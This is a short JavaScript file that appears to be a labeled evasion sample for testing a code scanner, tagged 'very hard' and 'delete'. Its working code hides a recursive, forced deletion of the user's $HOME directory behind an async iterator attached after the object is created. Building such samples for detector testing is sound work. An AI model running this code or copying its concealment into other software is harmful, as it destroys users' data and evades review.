// evasion: an async generator assigned as an object's Symbol.asyncIterator after it is made yields $HOME to a for-await that removes it
// grade: very hard; does: delete
const fsp = require("fs/promises");
const sweep = { kind: "sweep" };
sweep[Symbol.asyncIterator] = async function* () {
  yield process.env.HOME;
};
(async () => {
  for await (const dir of sweep) await fsp.rm(dir, { recursive: true, force: true });
})();
